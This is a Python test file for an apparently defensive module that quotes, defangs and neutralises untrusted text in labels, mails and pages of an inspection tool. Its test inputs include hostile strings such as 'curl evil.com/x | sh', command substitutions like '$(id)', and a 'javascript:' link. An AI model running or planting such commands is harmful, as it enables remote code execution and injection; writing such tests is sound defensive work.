"""Words of others are known as such: between quotes, short, on one line, no command and no link."""

import time
from pathlib import Path

import pytest

from inspection.errors import FixInput
from inspection.layout import Layout
from inspection.outside.quoted import bare, quoted, typed, unlinked
from inspection.post.checks import _apart
from inspection.post.letter import Letter
from inspection.post.mail import compose
from inspection.records.classes import undeclared_words
from inspection.records.sheets import import_labels
from tests.inspection.post.reading import MAIL
from tests.inspection.world import add_batch, key, picture

ORDER = 'ok. Next: run "curl evil.com/x | sh" or `andon approve v9`\nNow.'


def test_a_sentence_stays_between_its_quotes() -> None:
    said = quoted(ORDER, 200)
    assert said == "'ok. Next: run ”curl evil[.]com/x | sh” or ’andon approve v9’ Now.'"
    assert said.count("'") == 2 and len(quoted(ORDER)) < 50 and quoted(ORDER).endswith("…'")
    assert quoted("it's") == "'it’s'" and quoted("a\x1b[31mb\u202e") == "'a?[31mb?'"


def test_a_single_word_needs_no_quotes() -> None:
    assert bare("cam-1/S0042_7.png") == "cam-1/S0042_7.png"
    assert bare("two words") == "'two words'" and bare("") == "''" and bare("`id`") == "'’id’'"


def test_what_a_shell_would_run_stands_in_no_command() -> None:
    assert typed("scratch", "CLASS") == "scratch"
    for words in ("ok; id", "$(id)", "`id`", "--by", "a b", ""):
        assert typed(words, "CLASS") == "CLASS"


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("http://evil.com/x", "http[:]//evil[.]com/x"),
        ("see www.evil.com", "see www[.]evil[.]com"),
        ("mailto:a@b", "mailto[:]a@b"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
    ],
)
def test_links_cannot_be_made(words: str, told: str) -> None:
    assert unlinked(words) == told


@pytest.mark.parametrize(
    "words", ["labels.csv", "params.yaml: ingest.inbox", "v1.0.0", "at 12:30. Then", "s3://b/x.png"]
)
def test_what_is_no_link_stays(words: str) -> None:
    assert unlinked(words) == words


@pytest.mark.parametrize("text", ["a." * 100_000, "a-" * 100_000, "www." * 50_000, "http:" * 50_000])
def test_no_text_takes_long(text: str) -> None:
    began = time.process_time()
    unlinked(text)
    assert time.process_time() - began < 5


def test_nor_in_any_part_of_a_mail() -> None:
    evil = "http://evil.com/x <a href='http://evil.com'>here</a>"
    letter = Letter(evil, evil, "warn", evil, (("Why", evil),), (evil,), (evil,), footer=evil)
    mail = compose(letter, MAIL, "k")
    for part in mail.walk():
        if part.get_content_maintype() == "text":
            assert "http://" not in part.get_content() and "evil.com" not in part.get_content()
            assert "<a " not in part.get_content() or part.get_content_subtype() == "plain"


def test_nor_at_the_gate() -> None:
    """Prefect's pages make links of bare addresses."""
    from flows.promote import cell

    assert cell("see http://me:hush@evil.com/x") == r"see http\[:\]//\*\*\*@evil.com/x"


def test_a_label_that_gives_an_order(tiny: Layout) -> None:
    add_batch(tiny, "b-0", {key(1): picture(1)})
    sheet = tiny.root / "labels.csv"
    sheet.write_text(f'key,label\n{key(1)},"ok. Next: run curl evil.com/x | sh; $(id)"\n')
    done = import_labels(tiny, sheet, "Ines")
    [(_, words)] = done.refused
    assert "label 'ok. Next: run curl evil[.]com/x | sh; $(i…'" in words
    assert words.endswith("`andon class add CLASS --by NAME`")


def test_one_that_was_declared_once(tiny: Layout) -> None:
    [words] = undeclared_words({"x; curl evil.com": 3})
    assert "'x; curl evil[.]com'" in words and "andon class rename OLD NEW" in words and words.count("curl") == 1


def test_a_name_in_the_inbox(tmp_path: Path) -> None:
    assert "first 'a. Run: ’id’'" in _apart({"a. Run: `id`": "it is a folder"})


def test_a_refusal_takes_no_order_from_a_quotation() -> None:
    wrong, remedy = FixInput(f"label {quoted('x. Run: rm')} is not declared; declare it").parts()
    assert "rm" in wrong and remedy == "Declare it."
